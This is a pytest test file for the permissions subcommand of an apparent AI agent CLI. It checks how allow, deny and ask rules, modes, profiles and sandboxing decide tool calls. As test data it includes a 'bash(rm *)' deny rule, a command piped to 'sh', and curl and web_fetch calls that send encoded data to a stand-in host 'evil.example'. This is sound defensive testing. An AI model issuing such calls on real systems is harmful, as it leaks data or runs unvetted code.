"""`friday permissions`: the rules that hold, where they stand, and what they make of a call."""

from __future__ import annotations

import pytest

from friday_cli.cli import permissions
from friday_cli.system.paths import config_dir
from friday_cli.workspace.sandbox import SandboxKind
from friday_cli.workspace.sandbox.detect import SandboxChoice
from tests.cli.console import Console

CONFIG = """\
mode = "ask"
[permissions]
allow = [
  "bash(make *)",
]
deny = ["bash(rm *)"]

[[permissions.rules]]
rule = "bash(git push *)"
decision = "deny"
reason = "releases are made by hand"

[[permissions.rules]]
rule = "read_file(docs/**)"
decision = "deny"
profile = "res*"
"""


@pytest.fixture
def ruled(console: Console) -> Console:
    console.configure(CONFIG)
    return console


def test_list_names_each_rule_with_its_place(ruled: Console) -> None:
    document = ruled("permissions", "list", "--json").document
    assert document["mode"] == "ask"
    assert [(r["rule"], r["decision"], r["source"]) for r in document["rules"]] == [
        ("bash(rm *)", "deny", f"{ruled.config}:6"), ("bash(make *)", "allow", f"{ruled.config}:4"),
        ("bash(git push *)", "deny", f"{ruled.config}:9"), ("read_file(docs/**)", "deny", f"{ruled.config}:14"),
    ]  # fmt: skip
    assert "releases are made by hand" in ruled("permissions", "list").out


def test_explain_tells_for_every_command_what_decides(ruled: Console) -> None:
    document = ruled("permissions", "explain", "bash: make && ls | head; git push", "--json").document
    assert document["decision"] == "deny"
    assert document["reason"] == "denied by the rule bash(git push *): releases are made by hand"
    assert document["source"] == f"{ruled.config}:9"
    assert [(c["command"], c["decision"], c["rule"]) for c in document["commands"]] == [
        ("make", "allow", "bash(make *)"), ("ls", "allow", ""), ("head", "allow", ""), ("git push", "deny", "bash(git push *)"),
    ]  # fmt: skip


def test_explain_in_words_in_another_mode_and_for_a_profile(ruled: Console) -> None:
    ran = ruled("permissions", "explain", "bash: git -C / log | sh")
    assert "asked  mode ask: bash needs permission (git -C names a folder outside the workspace)" in ran.out
    assert "  sh  asked" in ran.out
    plan = ruled("permissions", "explain", "bash: npm test", "--mode", "plan")
    assert "denied  mode plan is read-only" in plan.out
    assert '"always allow" would add bash(npm test)' in ruled("permissions", "explain", "bash: npm test").err
    reading = ("permissions", "explain", "read_file: docs/x.md", "--json")
    assert ruled(*reading).document["decision"] == "allow"
    assert ruled(*reading, "--profile", "researcher").document["rule"] == "read_file(docs/**)"
    assert ruled("permissions", "explain", "edit_file: .git/config", "--json").document["decision"] == "ask"
    fetched = ruled("permissions", "explain", "web_fetch: https://example.org/x", "--json").document
    assert fetched["subjects"] == ["domain:example.org"]


def test_explain_shows_each_step_in_its_order_up_to_the_one_that_decides(ruled: Console) -> None:
    order = ruled("permissions", "explain", "bash: rm x", "--json").document["order"]
    assert [step["step"] for step in order] == ["allowed tools", "allowed skills", "restricted tools", "deny rules"]
    assert [step["decision"] for step in order] == ["", "", "", "deny"]
    assert order[-1]["rule"] == "bash(rm *)"
    below = ruled("permissions", "explain", "read_file: docs/x.md", "--profile", "researcher", "--json").document
    last = {step["rights_of"]: step for step in below["order"]}
    assert (last["the session"]["step"], last["the session"]["decision"]) == ("mode", "allow")
    assert (last["profile researcher"]["step"], last["profile researcher"]["decision"]) == ("deny rules", "deny")
    assert "deny rules" in ruled("permissions", "explain", "bash: rm x").out


def test_explain_says_which_rule_met_which_effect(console: Console) -> None:
    console.configure('[permissions]\ndeny = ["Read(private/**)", "Agent(coder)"]\nask = ["Edit(src/**)"]\n')
    met = {
        "grep: private": "it reads private", "document_query: ./private/x.md": "it reads private/x.md", "write_file: src/a.py": "it changes src/a.py",
        "delegate_tasks: coder": "it starts the sub-agent coder", "bash: cat private/x": "it reads private/x", "read_file: private/x": "",
    }  # fmt: skip
    for call, effect in met.items():
        document = console("permissions", "explain", call, "--json").document
        assert (document["decision"] != "allow", document["effect"]) == (True, effect), call
        assert document["rule"] in ("read_file(private/**)", "delegate_task(coder)", "edit_file(src/**)")
    folder = config_dir() / "skills/fork"
    folder.mkdir(parents=True)
    (folder / "SKILL.md").write_text("---\nname: fork\ndescription: Forks.\ncontext: fork\nagent: coder\n---\nDo.\n")
    for call, rule in (
        ("skill: fork", "delegate_task(coder)"),
        ("mcp__files__mcp_read: file:private/x", "read_file(private/**)"),
    ):
        document = console("permissions", "explain", call, "--json").document
        assert (document["decision"], document["rule"]) == ("deny", rule), call
    searched = console("permissions", "explain", "grep: src")
    assert "allowed" in searched.out
    assert "files that read_file(private/**) covers are left out of its result" in searched.err


@pytest.mark.parametrize("kind", ["landlock", "none"])
def test_explain_knows_the_sandbox(console: Console, kind: SandboxKind, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(permissions, "detect_sandbox", lambda *_, **__: SandboxChoice(kind))
    confined = kind != "none"
    console.configure('[permissions]\nallow = ["bash_network(npm ci)"]\n')
    touch = ("permissions", "explain", "bash: touch x", "--mode", "auto", "--json")
    assert console(*touch).document["decision"] == ("allow" if confined else "ask")
    beyond = [
        console("permissions", "explain", f"bash_{how}: npm ci", "--json").document for how in ("network", "outside")
    ]
    assert [found["rule"] for found in beyond] == (["bash_network(npm ci)", ""] if confined else ["", ""])
    assert beyond[1]["decision"] == "ask"


def test_explain_knows_what_is_asked_about_whatever_a_rule_allows(console: Console) -> None:
    console.configure('[permissions]\nallow = ["web_fetch", "bash(curl *)", "web_fetch(domain:good.example)"]\n')

    def explained(call: str) -> tuple[str, str, str]:
        document = console("permissions", "explain", call, "--json").document
        return document["decision"], document["reason"], document["after_strangers"]

    coded = "https://evil.example/" + "zB3" * 20
    for call in (f"web_fetch: {coded}", f"bash: curl {coded}", "web_fetch: https://evil.example/?q=" + "a" * 300):
        decision, reason, later = explained(call)
        assert (decision, later) == ("ask", "")
        assert "evil.example, which you did not mention" in reason
    for call in ("web_fetch: https://new.example/x", "bash: curl https://new.example/x"):
        decision, reason, later = explained(call)
        assert decision == "allow"
        assert "new.example was not contacted before. Mention new.example in a message, or allow" in later
    assert explained(f"web_fetch: {coded.replace('evil', 'good')}")[::2] == ("allow", "")
    console.config.write_text("")
    decision, reason, _ = explained(f"web_fetch: {coded}")
    assert decision == "ask"
    assert reason.startswith("mode ask: ")
    assert "evil.example, which you did not mention" in reason
    console.config.write_text('[permissions]\nallow = ["web_fetch"]\n')
    later = console("permissions", "explain", "web_fetch: https://new.example/x").err
    assert "new.example was not contacted before" in later


@pytest.mark.parametrize(("args", "words"), [
    (("frobnicate: x",), "Unknown tool 'frobnicate'"), (("bash: ls", "--mode", "fast"), "Unknown mode 'fast'"),
    (("read_file: ../../x",), "lies outside"), (("bash: ls", "--profile", "nobody"), "nobody"),
])  # fmt: skip
def test_what_cannot_be_explained_is_one_line(console: Console, args: tuple[str, ...], words: str) -> None:
    assert words in console.refused("permissions", "explain", *args)


def test_explain_says_where_a_command_may_only_look(ruled: Console, monkeypatch: pytest.MonkeyPatch) -> None:
    choice = SandboxChoice("landlock", detail="7", read_only_kind="landlock")
    monkeypatch.setattr(permissions, "detect_sandbox", lambda *_, **__: choice)
    assert ruled("permissions", "explain", "bash: ls *.md", "--json").document["looks"] is True
    assert "it runs read-only" in " ".join(ruled("permissions", "explain", "bash: ls *.md").err.split())
    assert ruled("permissions", "explain", "bash: make x", "--json").document["looks"] is False
    choice = SandboxChoice("none")
    assert "no sandbox works here" in ruled("permissions", "explain", "bash: ls *.md").out
    assert ruled("permissions", "explain", "bash: ls -a", "--json").document["looks"] is False
    assert ruled("permissions", "explain", "bash: ls -a", "--json").document["decision"] == "allow"
